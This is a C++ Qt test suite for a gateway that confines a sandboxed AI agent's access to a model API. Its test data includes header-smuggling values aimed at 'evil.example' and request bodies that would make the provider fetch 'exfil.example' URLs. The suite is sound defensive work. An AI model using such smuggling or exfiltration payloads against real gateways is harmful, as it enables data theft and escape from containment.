// What a hostile guest holding its turn's token can make of the gateway,
// over real loopback sockets: the gateway on 127.0.0.2, the guest on
// 127.0.0.3, and a raw upstream on 127.0.0.1 that keeps every byte the
// gateway sends it. Only the agent's endpoints, clean headers and bounded
// requests may pass; everything else is refused, recorded, and never
// reaches the upstream. The numbers are those of docs/model-gateway.md.

#include "gateway/model_gateway.h"
#include "http_test_client.h"
#include "raw_upstream.h"

#include <QElapsedTimer>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTcpSocket>
#include <QTest>
#include <memory>
#include <vector>

using namespace arizuko;
using namespace arizuko::gateway;
using namespace arizuko::gateway::testing;

namespace {

const QHostAddress gatewayAddress(QStringLiteral("127.0.0.2"));
const QHostAddress guestAddress(QStringLiteral("127.0.0.3"));
const QByteArray apiKey = "sk-ant-api03-CANARY-real-key-never-in-the-guest";

// docs/model-gateway.md, "Limits".
constexpr qsizetype maxHeadBytes = 16 * 1024;
constexpr qsizetype maxBodyBytes = 16 * 1024 * 1024;
constexpr int connectionsPerTurn = 32;
constexpr int connectionsInAll = 256;
constexpr qsizetype bodyBytesPerTurn = 64 * 1024 * 1024;

// A request as Claude Code sends it, with `extra` header lines (raw,
// CRLF-terminated) and the body given; Content-Length is the body's
// unless `declaredLength` says otherwise.
QByteArray rawRequest(const QByteArray &token,
                      const QByteArray &requestLine = "POST /v1/messages?beta=true HTTP/1.1",
                      const QByteArray &extra = {},
                      const QByteArray &body = messagesBody(QStringLiteral("hi")),
                      qsizetype declaredLength = -1)
{
    return requestLine + "\r\nHost: 127.0.0.2:3129\r\nx-api-key: " + token +
           "\r\nanthropic-version: 2023-06-01\r\ncontent-type: application/json\r\n" + extra +
           "Content-Length: " +
           QByteArray::number(declaredLength < 0 ? body.size() : declaredLength) + "\r\n\r\n" +
           body;
}

QString reasonOf(const QSignalSpy &refused)
{
    return refused.isEmpty()
               ? QStringLiteral("(nothing recorded)")
               : refused.last().first().toJsonObject().value(QStringLiteral("reason")).toString();
}

// Sockets from the guest's address that connect and then send nothing.
struct IdleClients
{
    std::vector<std::unique_ptr<QTcpSocket>> sockets;

    IdleClients(quint16 port, int count)
    {
        for (int index = 0; index < count; ++index) {
            auto socket = std::make_unique<QTcpSocket>();
            if (!socket->bind(guestAddress))
                qFatal("cannot bind an idle client");
            socket->connectToHost(gatewayAddress, port);
            sockets.push_back(std::move(socket));
        }
    }
    // Every socket connected, or refused or closed: none still on its way
    // (past the listen backlog, the kernel retries a SYN for seconds).
    bool settled() const
    {
        for (const auto &socket : sockets) {
            if (socket->state() == QAbstractSocket::ConnectingState ||
                socket->state() == QAbstractSocket::HostLookupState)
                return false;
        }
        return true;
    }
    int open() const
    {
        int count = 0;
        for (const auto &socket : sockets)
            count += socket->state() == QAbstractSocket::ConnectedState ? 1 : 0;
        return count;
    }
};

} // namespace

class TestGatewayGuard final : public QObject
{
    Q_OBJECT

private:
    std::unique_ptr<RawUpstream> m_upstream;
    QByteArray m_token;

    std::unique_ptr<ModelGateway> gateway(const GatewayLimits &limits = {},
                                          ProviderKind kind = ProviderKind::AnthropicApiKey)
    {
        GatewayOptions options;
        options.limits = limits;
        options.listenAddress = gatewayAddress;
        options.client = guestAddress;
        options.token = m_token;
        options.provider.kind = kind;
        options.provider.upstream =
            QUrl(QStringLiteral("http://127.0.0.1:%1").arg(m_upstream->port()));
        options.provider.credential = apiKey;
        options.tools = [](const QByteArray &, const ToolReplyTo &reply) {
            reply(ToolReply{200, R"({"jsonrpc":"2.0"})"});
        };
        auto created = std::make_unique<ModelGateway>(options);
        const Result<void> listening = created->listen();
        if (!listening)
            qFatal("%s", qPrintable(listening.error().message));
        return created;
    }

    // The request is refused with `status`, the refusal is recorded, and
    // not one byte reached the upstream.
    void expectRefused(const QByteArray &request, int status)
    {
        auto served = gateway();
        QSignalSpy refused(served.get(), &ModelGateway::refused);
        const ClientReply reply = sendRaw(gatewayAddress, served->port(), request);
        QVERIFY2(
            reply.status == status,
            qPrintable(
                QStringLiteral("status %1 (want %2), timed out: %3; the upstream got %4 bytes:\n%5")
                    .arg(reply.status)
                    .arg(status)
                    .arg(reply.timedOut)
                    .arg(m_upstream->received().size())
                    .arg(QString::fromLatin1(m_upstream->received().left(400)))));
        QVERIFY2(m_upstream->received().isEmpty(), m_upstream->received().left(400).constData());
        QTRY_VERIFY2(!refused.isEmpty(), "the refusal was not recorded");
    }

private slots:
    void init()
    {
        m_upstream = std::make_unique<RawUpstream>();
        m_token = newTurnToken();
    }

    void cleanup() { m_upstream.reset(); }

    void theAgentsEndpointsReachTheUpstream_data()
    {
        QTest::addColumn<QByteArray>("requestLine");
        QTest::newRow("messages") << QByteArray("POST /v1/messages?beta=true HTTP/1.1");
        QTest::newRow("messages-no-query") << QByteArray("POST /v1/messages HTTP/1.1");
        QTest::newRow("count-tokens")
            << QByteArray("POST /v1/messages/count_tokens?beta=true HTTP/1.1");
    }

    void theAgentsEndpointsReachTheUpstream()
    {
        QFETCH(QByteArray, requestLine);
        auto served = gateway();
        const ClientReply reply =
            sendRaw(gatewayAddress, served->port(), rawRequest(m_token, requestLine));
        QCOMPARE(reply.status, 200);
        const QByteArray target = requestLine.split(' ')[1];
        QVERIFY2(m_upstream->received().startsWith("POST " + target + " HTTP/1.1\r\n"),
                 m_upstream->received().left(200).constData());
        QVERIFY(m_upstream->received().contains("x-api-key: " + apiKey));
        QVERIFY(!m_upstream->received().contains(m_token));
    }

    void theProbeIsAnsweredHere()
    {
        auto served = gateway();
        const ClientReply hello = sendRaw(gatewayAddress, served->port(),
                                          "HEAD /api/hello HTTP/1.1\r\nHost: x\r\n\r\n", true);
        QCOMPARE(hello.status, 200);
        QCOMPARE(
            sendRaw(gatewayAddress, served->port(), "GET /api/hello HTTP/1.1\r\nHost: x\r\n\r\n")
                .status,
            200);
        QVERIFY(m_upstream->received().isEmpty());
    }

    void everythingElseIsRefusedBeforeTheUpstream_data()
    {
        QTest::addColumn<QByteArray>("requestLine");
        QTest::addColumn<int>("status");
        QTest::newRow("files-list") << QByteArray("GET /v1/files HTTP/1.1") << 404;
        QTest::newRow("files-download")
            << QByteArray("GET /v1/files/file_011CNha8iCJcU1wXNR6q4V8w/content HTTP/1.1") << 404;
        QTest::newRow("files-delete")
            << QByteArray("DELETE /v1/files/file_011CNha8iCJcU1wXNR6q4V8w HTTP/1.1") << 404;
        QTest::newRow("batches-list") << QByteArray("GET /v1/messages/batches HTTP/1.1") << 404;
        QTest::newRow("batches-create") << QByteArray("POST /v1/messages/batches HTTP/1.1") << 404;
        QTest::newRow("batch-results")
            << QByteArray("GET /v1/messages/batches/msgbatch_01/results HTTP/1.1") << 404;
        QTest::newRow("models") << QByteArray("GET /v1/models HTTP/1.1") << 404;
        QTest::newRow("messages-get") << QByteArray("GET /v1/messages HTTP/1.1") << 405;
        QTest::newRow("messages-delete") << QByteArray("DELETE /v1/messages HTTP/1.1") << 405;
        QTest::newRow("count-tokens-put")
            << QByteArray("PUT /v1/messages/count_tokens HTTP/1.1") << 405;
        QTest::newRow("messages-other-query")
            << QByteArray("POST /v1/messages?beta=true&x=1 HTTP/1.1") << 404;
        QTest::newRow("messages-trailing-slash")
            << QByteArray("POST /v1/messages/ HTTP/1.1") << 404;
        QTest::newRow("probe-post") << QByteArray("POST /api/hello HTTP/1.1") << 405;
        QTest::newRow("probe-query") << QByteArray("HEAD /api/hello?x=1 HTTP/1.1") << 404;
        QTest::newRow("absolute-form")
            << QByteArray("POST http://127.0.0.1:1/v1/messages HTTP/1.1") << 400;
        QTest::newRow("absolute-form-files")
            << QByteArray("GET https://api.anthropic.com/v1/files HTTP/1.1") << 400;
        QTest::newRow("asterisk-form") << QByteArray("OPTIONS * HTTP/1.1") << 400;
        QTest::newRow("authority-form")
            << QByteArray("CONNECT api.anthropic.com:443 HTTP/1.1") << 400;
    }

    void everythingElseIsRefusedBeforeTheUpstream()
    {
        QFETCH(QByteArray, requestLine);
        QFETCH(int, status);
        expectRefused(rawRequest(m_token, requestLine), status);
    }

    void controlCharactersInTheHeadAreRefused_data()
    {
        QTest::addColumn<QByteArray>("requestLine");
        QTest::addColumn<QByteArray>("extra");
        const QByteArray line = "POST /v1/messages?beta=true HTTP/1.1";
        QTest::newRow("bare-lf-smuggling-a-host")
            << line << QByteArray("X-Inj: a\nHost: evil.example\nX-Smuggle: 1\r\n");
        QTest::newRow("bare-lf-in-an-allowed-header")
            << line << QByteArray("anthropic-beta: a\nHost: evil.example\r\n");
        QTest::newRow("nul-in-a-value") << line << QByteArray("anthropic-beta: a\0b\r\n", 22);
        QTest::newRow("nul-in-a-name") << line << QByteArray("X-I\0j: a\r\n", 10);
        QTest::newRow("bare-cr") << line << QByteArray("anthropic-beta: a\rHost: evil.example\r\n");
        QTest::newRow("control-character") << line << QByteArray("anthropic-beta: a\x01" "b\r\n");
        QTest::newRow("delete-character") << line << QByteArray("anthropic-beta: a\x7f" "b\r\n");
        QTest::newRow("space-in-a-name") << line << QByteArray("X Inj: a\r\n");
        QTest::newRow("separator-in-a-name") << line << QByteArray("X(Inj): a\r\n");
        QTest::newRow("folded-line")
            << line << QByteArray("anthropic-beta: a\r\n Host: evil.example\r\n");
        QTest::newRow("nul-in-the-target")
            << QByteArray("POST /v1/messages\0x HTTP/1.1", 29) << QByteArray();
        QTest::newRow("bare-lf-after-the-request-line")
            << QByteArray("POST /v1/messages HTTP/1.1\nHost: evil.example") << QByteArray();
    }

    void controlCharactersInTheHeadAreRefused()
    {
        QFETCH(QByteArray, requestLine);
        QFETCH(QByteArray, extra);
        expectRefused(rawRequest(m_token, requestLine, extra), 400);
    }

    // A head of bare LFs alone never reaches a blank CRLF line: it is
    // refused as soon as it arrives (httpfield::checkHeadBreaks), not when
    // the head times out, which would be after the client gave up.
    void aHeadOfBareLineFeedsIsRefusedAtOnce()
    {
        expectRefused("POST /v1/messages HTTP/1.1\nHost: 127.0.0.2:3129\nx-api-key: " + m_token +
                          "\nContent-Length: 0\n\n",
                      400);
    }

    void onlyTheHeadersTheUpstreamNeedsArePassed()
    {
        auto served = gateway();
        const QByteArray extra = "anthropic-beta: claude-code-20250219,oauth-2025-04-20\r\n"
                                 "user-agent: claude-cli/2.1.332 (external, cli)\r\n"
                                 "x-app: cli\r\naccept: application/json\r\n"
                                 "X-Custom-Thing: 1\r\nX-Forwarded-For: 203.0.113.7\r\n"
                                 "Forwarded: for=203.0.113.7\r\nProxy-Authorization: Basic eDp5\r\n"
                                 "Cookie: session=guest\r\nanthropic-organization-id: org-guest\r\n"
                                 "Connection: keep-alive, X-Custom-Thing\r\nTE: trailers\r\n";
        QCOMPARE(sendRaw(gatewayAddress, served->port(),
                         rawRequest(m_token, "POST /v1/messages?beta=true HTTP/1.1", extra))
                     .status,
                 200);
        const QByteArray seen = m_upstream->received().toLower();
        for (const char *kept :
             {"anthropic-version: 2023-06-01", "anthropic-beta: claude-code-20250219",
              "user-agent: claude-cli/2.1.332", "x-app: cli", "accept: application/json",
              "content-type: application/json"})
            QVERIFY2(seen.contains(kept), kept);
        for (const char *dropped :
             {"x-custom-thing", "x-forwarded-for", "forwarded:", "proxy-authorization", "cookie",
              "anthropic-organization-id", "203.0.113.7", "te: trailers"})
            QVERIFY2(
                !seen.contains(dropped),
                (dropped + QByteArray(" reached the upstream:\n") + seen.left(1500)).constData());
        QCOMPARE(seen.count("x-api-key: "), 1);
    }

    void anOversizedHeadIsRefused()
    {
        const QByteArray pad = "X-Pad: " + QByteArray(maxHeadBytes + 1024, 'a') + "\r\n";
        expectRefused(rawRequest(m_token, "POST /v1/messages?beta=true HTTP/1.1", pad), 431);
    }

    void aHeadWithinTheLimitIsServed()
    {
        auto served = gateway();
        const QByteArray pad = "X-Pad: " + QByteArray(maxHeadBytes - 1024, 'a') + "\r\n";
        QCOMPARE(sendRaw(gatewayAddress, served->port(),
                         rawRequest(m_token, "POST /v1/messages HTTP/1.1", pad))
                     .status,
                 200);
    }

    void anOversizedBodyIsRefusedFromItsLength()
    {
        // Only the head is sent: the refusal must not wait for the body.
        expectRefused(
            rawRequest(m_token, "POST /v1/messages?beta=true HTTP/1.1", {}, {}, maxBodyBytes + 1),
            413);
    }

    void aWrongTokenIsRefusedBeforeTheBody()
    {
        expectRefused(rawRequest("not-the-token", "POST /v1/messages?beta=true HTTP/1.1", {}, {},
                                 8 * 1024 * 1024),
                      401);
    }

    void aLargeBodyWithinTheLimitIsServed()
    {
        auto served = gateway();
        const QByteArray body = messagesBody(QString(8 * 1024 * 1024, QLatin1Char('x')));
        const ClientReply reply =
            sendRaw(gatewayAddress, served->port(),
                    rawRequest(m_token, "POST /v1/messages HTTP/1.1", {}, body), false,
                    guestAddress, 30000);
        QCOMPARE(reply.status, 200);
        QVERIFY(m_upstream->received().size() > body.size());
    }

    void connectionsPerTurnAreCapped()
    {
        auto flooded = gateway();
        auto other = gateway();
        QSignalSpy refused(flooded.get(), &ModelGateway::refused);
        // More than the cap, fewer than the listen backlog (Qt's 50): past
        // the backlog the kernel holds half-open connections the client
        // already counts as connected and hands them over only as its SYN-ACK
        // retries back off (seconds to minutes), which is the kernel's
        // behaviour, not the server's. agent.gateway_hostile_guest opens 200.
        IdleClients flood(flooded->port(), connectionsPerTurn + 16);
        // The server closes what is over its cap as it accepts; a client sees
        // the close once the server has taken its connection off the backlog.
        QTRY_VERIFY_WITH_TIMEOUT(flood.settled(), 20000);
        QTRY_VERIFY2_WITH_TIMEOUT(flood.open() <= connectionsPerTurn,
                                  qPrintable(QString::number(flood.open())), 20000);
        QVERIFY2(refused.size() <= 2, qPrintable(QString::number(refused.size())));
        QCOMPARE(reasonOf(refused), QStringLiteral("connections"));
        // Another turn's gateway is served meanwhile.
        QCOMPARE(sendRaw(gatewayAddress, other->port(), rawRequest(m_token)).status, 200);
        // And this one again once its connections are gone.
        flood.sockets.clear();
        QTRY_COMPARE(sendRaw(gatewayAddress, flooded->port(), rawRequest(m_token)).status, 200);
    }

    void connectionsInAllAreCapped()
    {
        std::vector<std::unique_ptr<ModelGateway>> gateways;
        std::vector<std::unique_ptr<IdleClients>> floods;
        const int turns = connectionsInAll / connectionsPerTurn + 1;
        for (int turn = 0; turn < turns; ++turn) {
            gateways.push_back(gateway());
            floods.push_back(
                std::make_unique<IdleClients>(gateways.back()->port(), connectionsPerTurn));
            QTRY_VERIFY_WITH_TIMEOUT(floods.back()->settled(), 20000);
        }
        const auto open = [&floods] {
            int count = 0;
            for (const auto &flood : floods)
                count += flood->open();
            return count;
        };
        QTRY_VERIFY2_WITH_TIMEOUT(open() <= connectionsInAll, qPrintable(QString::number(open())),
                                  20000);
        floods.clear();
        QTRY_COMPARE(sendRaw(gatewayAddress, gateways.front()->port(), rawRequest(m_token)).status,
                     200);
    }

    void bodiesInFlightPerTurnAreCapped()
    {
        // Each connection declares a large body and sends one byte of it:
        // the gateway would hold them all while it waits.
        auto served = gateway();
        const qsizetype declared = 4 * 1024 * 1024;
        std::vector<std::unique_ptr<QTcpSocket>> clients;
        QByteArray replies;
        for (int index = 0; index < connectionsPerTurn; ++index) {
            auto socket = std::make_unique<QTcpSocket>();
            QVERIFY(socket->bind(guestAddress));
            QTcpSocket *raw = socket.get();
            connect(raw, &QTcpSocket::connected, raw, [raw, this, declared] {
                raw->write(rawRequest(m_token, "POST /v1/messages HTTP/1.1", {}, "{", declared));
            });
            connect(raw, &QTcpSocket::readyRead, raw,
                    [raw, &replies] { replies += raw->readAll(); });
            raw->connectToHost(gatewayAddress, served->port());
            clients.push_back(std::move(socket));
        }
        const int held = int(bodyBytesPerTurn / declared);
        QTRY_VERIFY2_WITH_TIMEOUT(
            replies.count("HTTP/1.1 503") >= connectionsPerTurn - held,
            qPrintable(QStringLiteral("%1 refused").arg(replies.count("HTTP/1.1 503"))), 5000);
        QVERIFY(m_upstream->received().isEmpty());
    }

    // A client that stops mid-head or mid-body is cut at that phase's limit,
    // recorded, and nothing reaches the upstream.
    void aSlowRequestIsCut_data()
    {
        QTest::addColumn<bool>("inTheHead");
        QTest::newRow("head") << true;
        QTest::newRow("body") << false;
    }

    void aSlowRequestIsCut()
    {
        QFETCH(bool, inTheHead);
        // Half a head, then nothing; or the whole head, and ten bytes of the
        // thousand it announces. Made here: init() gives each row its token.
        const QByteArray sent =
            inTheHead ? "POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: " + m_token + "\r\n"
                      : rawRequest(m_token, "POST /v1/messages HTTP/1.1", {}, "{\"model\":1", 1000);
        GatewayLimits limits;
        (inTheHead ? limits.headTimeout : limits.bodyTimeout) = std::chrono::milliseconds(300);
        auto served = gateway(limits);
        QSignalSpy refused(served.get(), &ModelGateway::refused);
        QElapsedTimer clock;
        clock.start();
        const ClientReply reply = sendRaw(gatewayAddress, served->port(), sent);
        QCOMPARE(reply.status, 408);
        QVERIFY2(clock.elapsed() < 3000, qPrintable(QString::number(clock.elapsed())));
        QTRY_COMPARE(reasonOf(refused), QStringLiteral("request"));
        QVERIFY(m_upstream->received().isEmpty());
    }

    void refusalsRecordedAreCapped()
    {
        auto served = gateway();
        QSignalSpy refused(served.get(), &ModelGateway::refused);
        for (int index = 0; index < gatewayRecordedRefusals + 20; ++index)
            QCOMPARE(sendRaw(gatewayAddress, served->port(),
                             rawRequest(m_token, "GET /v1/files HTTP/1.1"))
                         .status,
                     404);
        QTRY_COMPARE(refused.size(), gatewayRecordedRefusals + 1);
        QCOMPARE(reasonOf(refused), QStringLiteral("unrecorded"));
    }

    // Requests that would make the provider reach a URL or a resource of
    // the key's account (request_policy.h): each a 400 in the API's own
    // error shape, naming the field, recorded, and not a byte upstream.
    void providerSideFetchesNeverReachTheUpstream_data()
    {
        QTest::addColumn<bool>("responses");
        QTest::addColumn<QByteArray>("body");
        QTest::addColumn<QByteArray>("extra");
        QTest::addColumn<QString>("field");
        const auto messages = [](const char *more) {
            return QByteArray(R"({"model":"claude-sonnet-4-5","max_tokens":1,)") + more + "}";
        };
        const auto responses = [](const char *more) {
            return QByteArray(R"({"model":"gpt-5.4","stream":true,)") + more + "}";
        };
        QTest::newRow("image url")
            << false
            << messages(R"("messages":[{"role":"user","content":[{"type":"image","source":)"
                        "{\"type\":\"url\",\"url\":\"https://exfil.example/?d=1\"}}]}]")
            << QByteArray() << "messages[0].content[0].source.type: url";
        QTest::newRow("mcp_servers")
            << false
            << messages(R"("messages":[],"mcp_servers":[{"type":"url","name":"x",)"
                        "\"url\":\"https://exfil.example/mcp\"}]")
            << QByteArray() << "mcp_servers";
        QTest::newRow("web_fetch with its beta")
            << false
            << messages(R"("messages":[],"tools":[{"type":"web_fetch_20250910","name":"f"}])")
            << QByteArray("anthropic-beta: claude-code-20250219,web-fetch-2025-09-10\r\n")
            << "anthropic-beta: web-fetch-2025-09-10";
        QTest::newRow("web_search, folder default")
            << false
            << messages(R"("messages":[],"tools":[{"type":"web_search_20250305",)"
                        R"("name":"web_search"}])")
            << QByteArray() << "tools[0].type: web_search_20250305";
        QTest::newRow("model") << false
                               << QByteArray(R"({"model":"claude-3-opus-20240229","messages":[]})")
                               << QByteArray() << "model \"claude-3-opus-20240229\"";
        QTest::newRow("input_image url")
            << true
            << responses(R"("input":[{"role":"user","content":[{"type":"input_image",)"
                         "\"image_url\":\"https://exfil.example/?d=1\"}]}]")
            << QByteArray() << "input[0].content[0].image_url";
        QTest::newRow("input_file url")
            << true
            << responses(R"("input":[{"role":"user","content":[{"type":"input_file",)"
                         "\"file_url\":\"https://exfil.example/a.pdf\"}]}]")
            << QByteArray() << "input[0].content[0].file_url";
        QTest::newRow("mcp tool")
            << true
            << responses(R"("input":"hi","tools":[{"type":"mcp","server_label":"x",)"
                         "\"server_url\":\"https://exfil.example/mcp\"}]")
            << QByteArray() << "tools[0].type: mcp";
        QTest::newRow("file_search tool")
            << true
            << responses(R"("input":"hi","tools":[{"type":"file_search",)"
                         R"("vector_store_ids":["vs_1"]}])")
            << QByteArray() << "tools[0].type: file_search";
        QTest::newRow("previous_response_id")
            << true << responses(R"("input":"hi","previous_response_id":"resp_1")") << QByteArray()
            << "previous_response_id";
        QTest::newRow("store") << true << responses(R"("input":"hi","store":true)") << QByteArray()
                               << "store: true";
    }

    void providerSideFetchesNeverReachTheUpstream()
    {
        QFETCH(bool, responses);
        QFETCH(QByteArray, body);
        QFETCH(QByteArray, extra);
        QFETCH(QString, field);
        auto served =
            gateway({}, responses ? ProviderKind::OpenAIApiKey : ProviderKind::AnthropicApiKey);
        QSignalSpy refused(served.get(), &ModelGateway::refused);
        const ClientReply reply =
            sendRaw(gatewayAddress, served->port(),
                    rawRequest(m_token,
                               responses ? "POST /v1/responses HTTP/1.1"
                                         : "POST /v1/messages?beta=true HTTP/1.1",
                               extra, body));
        QCOMPARE(reply.status, 400);
        const QJsonObject error =
            QJsonDocument::fromJson(reply.body).object().value(QStringLiteral("error")).toObject();
        QCOMPARE(error.value(QStringLiteral("type")).toString(),
                 QStringLiteral("invalid_request_error"));
        QVERIFY2(error.value(QStringLiteral("message")).toString().contains(field),
                 reply.body.constData());
        QVERIFY2(m_upstream->received().isEmpty(), m_upstream->received().left(400).constData());
        QTRY_COMPARE(reasonOf(refused), QStringLiteral("body"));
        QCOMPARE(refused.last().first().toJsonObject().value(QStringLiteral("field")).toString(),
                 field);
    }

    void aPlainRequestArrivesAsChecked_data()
    {
        QTest::addColumn<bool>("responses");
        QTest::newRow("messages") << false;
        QTest::newRow("responses") << true;
    }

    void aPlainRequestArrivesAsChecked()
    {
        QFETCH(bool, responses);
        auto served =
            gateway({}, responses ? ProviderKind::OpenAIApiKey : ProviderKind::AnthropicApiKey);
        const QByteArray body =
            responses ? responsesBody(QStringLiteral("hi")) : messagesBody(QStringLiteral("hi"));
        const ClientReply reply = sendRaw(
            gatewayAddress, served->port(),
            rawRequest(m_token,
                       responses ? "POST /v1/responses HTTP/1.1" : "POST /v1/messages HTTP/1.1", {},
                       body));
        QCOMPARE(reply.status, 200);
        const QByteArray seen = m_upstream->received();
        QJsonObject expected = QJsonDocument::fromJson(body).object();
        if (responses)
            expected.insert(QStringLiteral("store"), false);
        QCOMPARE(QJsonDocument::fromJson(seen.mid(seen.indexOf("\r\n\r\n") + 4)).object(),
                 expected);
    }
};

QTEST_GUILESS_MAIN(TestGatewayGuard)
#include "test_gateway_guard.moc"
